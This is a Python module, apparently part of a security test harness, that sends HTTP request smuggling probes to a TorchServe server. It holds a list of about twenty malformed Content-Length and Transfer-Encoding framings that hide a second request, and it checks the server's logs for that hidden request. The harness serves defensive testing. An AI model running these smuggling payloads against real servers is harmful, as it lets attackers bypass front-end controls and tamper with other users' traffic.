"""Send requests that two servers in a row may read otherwise, and look what the inner one saw."""

from __future__ import annotations

import asyncio
import json
import re
from dataclasses import dataclass

from soak.attacks.site import HOST, Reply, Site, exchange

READ_SECONDS = 3.0
PIPELINED = 12
LOGGED_SECONDS = 1.0


@dataclass(frozen=True)
class Form:
    """A way to say where a body ends, and the body; `{hidden}` in it is another request."""

    name: str
    lines: tuple[str, ...]
    body: str
    version: str = "HTTP/1.1"


#: As a chunked body this ends at once; the rest would be the next request.
CHUNKS = "0\r\n\r\n{hidden}"
ALL, CHUNKED = "Content-Length: {all}", "Transfer-Encoding: chunked"
FORMS = (
    Form("Content-Length, then chunked", (ALL, CHUNKED), CHUNKS),
    Form("chunked, then Content-Length", (CHUNKED, ALL), CHUNKS),
    Form("chunked in HTTP/1.0", (ALL, CHUNKED), CHUNKS, "HTTP/1.0"),
    Form("two Content-Lengths", ("Content-Length: 0", ALL), "{hidden}"),
    Form("a list of Content-Lengths", ("Content-Length: 0, {all}",), "{hidden}"),
    Form("Content-Length: +0", ("Content-Length: +0",), "{hidden}"),
    Form("Content-Length: 0x0", ("Content-Length: 0x0",), "{hidden}"),
    Form("Content-Length: -1", ("Content-Length: -1",), "{hidden}"),
    Form("space before the colon", ("Content-Length : 0", ALL), "{hidden}"),
    Form("folded header", ("X-Folded: a", " Content-Length: 0", ALL), "{hidden}"),
    Form("folded encoding", ("Transfer-Encoding:", " chunked", ALL), CHUNKS),
    Form("Transfer-Encoding: xchunked", ("Transfer-Encoding: xchunked", ALL), CHUNKS),
    Form("Transfer-Encoding: identity", ("Transfer-Encoding: identity", ALL), CHUNKS),
    Form("chunked twice", (CHUNKED, CHUNKED, ALL), CHUNKS),
    Form("vertical tab before chunked", ("Transfer-Encoding: \x0bchunked", ALL), CHUNKS),
    Form("null in a header", ("X-Null: a\0b", "Content-Length: 0"), "{hidden}"),
    Form("chunk of size 0x0", (CHUNKED,), "0x0\r\n\r\n{hidden}"),
    Form("chunk of size -1", (CHUNKED,), "-1\r\n\r\n{hidden}"),
    Form("chunk of size 2^68", (CHUNKED,), "100000000000000000\r\n\r\n{hidden}"),
    Form("chunk without its end", (CHUNKED,), "1\r\naX0\r\n\r\n{hidden}"),
    Form("chunk size with a line feed alone", (CHUNKED,), "2\n{{}}\n0\n\n{hidden}"),
)


@dataclass(frozen=True)
class Smuggled:
    """What became of a form; `reached`: TorchServe took the hidden request for one."""

    form: Form
    reply: Reply
    reached: bool

    @property
    def split(self) -> bool:
        """Whether the outermost server answered the hidden request as one of its own."""
        return len(self.reply.statuses) > 1


async def smuggle(site: Site) -> list[Smuggled]:
    """Send every form; the hidden request asks for a path that logs would show."""
    replies = [await _send(site, number, form) for number, form in enumerate(FORMS)]
    await asyncio.sleep(LOGGED_SECONDS)
    logged = b"".join(
        path.read_bytes() for path in site.server.log_dir.rglob("*") if path.is_file()
    )
    return [
        Smuggled(form, reply, _hidden(number).encode() in logged)
        for number, (form, reply) in enumerate(zip(FORMS, replies, strict=True))
    ]


async def _send(site: Site, number: int, form: Form) -> Reply:
    hidden = f"GET {_hidden(number)} HTTP/1.1\r\nHost: {HOST}\r\n\r\n"
    body = form.body.format(hidden=hidden)
    lines = [line.format(all=len(body)) for line in form.lines]
    head = [f"POST {site.good.path} {form.version}", f"Host: {HOST}"]
    head += [f"Authorization: Bearer {site.key}", "Content-Type: application/json", *lines]
    data = "\r\n".join([*head, "", body]).encode("latin-1")
    return await exchange(site.port, data, seconds=READ_SECONDS)


def _hidden(number: int) -> str:
    return f"/predictions/hidden_{number}_"


async def pipeline(site: Site) -> str:
    """Send many requests in one go, large and small in turn; say whether answers are in order."""
    path = f"/v2/models/{site.model}/infer"
    data = b""
    for number in range(PIPELINED):
        texts = ["A long text. " * 20] * (1 if number % 2 else 8)
        tensor = {"name": "text", "shape": [len(texts)], "datatype": "BYTES", "data": texts}
        body = json.dumps({"id": f"number-{number}", "inputs": [tensor]}).encode()
        data += site.head(len(body), site.key, path) + body
    reply = await exchange(site.port, data, seconds=10, answers=PIPELINED)
    found = [int(each) for each in re.findall(rb'"id": ?"number-(\d+)"', reply.raw)]
    if found == list(range(PIPELINED)):
        return f"{PIPELINED} answers in order"
    order = "OUT OF ORDER" if found != sorted(found) else "in order"
    return f"{len(found)} of {PIPELINED} answers, {order}: {found} ({reply.in_words()})"
